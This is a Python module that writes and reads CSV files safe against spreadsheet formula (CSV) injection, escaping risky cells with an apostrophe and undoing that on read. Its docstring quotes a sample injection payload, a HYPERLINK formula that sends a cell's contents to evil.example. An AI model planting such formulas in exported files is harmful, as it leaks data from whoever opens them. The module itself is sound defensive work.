"""CSV files that are safe to open in a spreadsheet, and that read back as they were written.

Spreadsheets evaluate a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula (OWASP "CSV injection"): a channel named
``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` would become a live link in the file a
manager opens in Excel. Every CSV the workbench writes for people goes through
:func:`write_csv`, and a CSV it reads back (the forecast ledger) through :func:`read_csv`.

- **Writer's rule** (:func:`neutralise`): a text cell (a ``str`` value or a column header) that
  begins with one of those characters, possibly after apostrophes, gets one more apostrophe in
  front: ``=SUM(1+1)`` is written ``'=SUM(1+1)``, ``'=x`` is written ``''=x``. Every other text
  is written as it is (``'quoted`` stays ``'quoted``). Numbers are never text: they are written as
  pandas writes them (``-5.0`` stays ``-5.0``, NaN is an empty cell).
- **Reader's rule** (:func:`restore`): a text cell that begins with an apostrophe followed, after
  any further apostrophes, by one of those characters loses its first apostrophe. The reader undoes
  exactly what the writer added, so every name reads back as it was, including names that start
  with an apostrophe.

Rows end in CR LF, so that a line break inside a name stays inside its (quoted) cell.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import IO, Any

import pandas as pd

#: What makes a spreadsheet read a cell as a formula (OWASP): its first character.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: The character put in front of such text.
MARK = "'"

_STARTS = "".join(re.escape(c) for c in FORMULA_STARTS)
_NEEDS_MARK = re.compile(f"{MARK}*[{_STARTS}]")
_MARKED = re.compile(f"{MARK}+[{_STARTS}]")


def neutralise(text: str) -> str:
    """``text`` as the writer writes it: one more leading ``'`` when a spreadsheet would evaluate
    it (after apostrophes), else unchanged."""
    return MARK + text if _NEEDS_MARK.match(text) else text


def restore(text: str) -> str:
    """The inverse of :func:`neutralise`: the one leading ``'`` the writer added, removed."""
    return text[1:] if _MARKED.match(text) else text


def neutralised(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell and column header as :func:`neutralise` writes it;
    numbers, dates and missing values untouched."""
    return _each_text(frame, neutralise)


def restored(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` (as read from a file :func:`write_csv` wrote) with every text cell and
    column header as it was before writing."""
    return _each_text(frame, restore)


def formula_cells(frame: pd.DataFrame) -> list[tuple[str, str]]:
    """``(column, text)`` of each distinct text cell or header that a spreadsheet would evaluate
    as it is (empty for a frame that is safe to write as it is)."""
    found = [(c, c) for c in frame.columns if isinstance(c, str) and _NEEDS_MARK.match(c)]
    for i in _text_columns(frame):
        column = str(frame.columns[i])
        values = pd.unique(frame.iloc[:, i].to_numpy(dtype=object))
        found += [(column, v) for v in values if isinstance(v, str) and _NEEDS_MARK.match(v)]
    return found


def write_csv(frame: pd.DataFrame, target: str | Path | IO[str], **options: Any) -> None:
    """Write ``frame`` without its index as CSV that is safe to open in a spreadsheet (the
    writer's rule above); ``options`` go to :meth:`pandas.DataFrame.to_csv`.

    Rows end in CR LF (RFC 4180), so that a cell holding a carriage return is quoted: with a
    bare LF ending, Python's CSV writer leaves such a cell unquoted, and a spreadsheet would start
    a new row, and maybe a formula, after the carriage return.
    """
    options = options | {"index": False, "lineterminator": "\r\n"}
    neutralised(frame).to_csv(target, **options)


def read_csv(source: str | Path | IO[str], **options: Any) -> pd.DataFrame:
    """Read a CSV that :func:`write_csv` wrote, every value as it was written.

    Text loses the apostrophe the writer added (the reader's rule above); only an empty cell is
    missing (a series named ``NA`` stays ``NA``); floats are read with Python's own conversion,
    so each number is the one written, to the last bit. ``options`` go to
    :func:`pandas.read_csv`.
    """
    exact = {"keep_default_na": False, "na_values": [""], "float_precision": "round_trip"}
    return restored(pd.read_csv(source, **(exact | options)))


def _text_columns(frame: pd.DataFrame) -> list[int]:
    """Positions of the columns that may hold text (object, string and categorical ones)."""
    return [
        i
        for i, dtype in enumerate(frame.dtypes)
        if pd.api.types.is_object_dtype(dtype)
        or isinstance(dtype, (pd.StringDtype, pd.CategoricalDtype))
    ]


def _each_text(frame: pd.DataFrame, change: Callable[[str], str]) -> pd.DataFrame:
    out = frame.copy()
    for i in _text_columns(out):
        out.isetitem(i, out.iloc[:, i].map(lambda v: change(v) if isinstance(v, str) else v))
    return out.rename(columns=lambda c: change(c) if isinstance(c, str) else c)
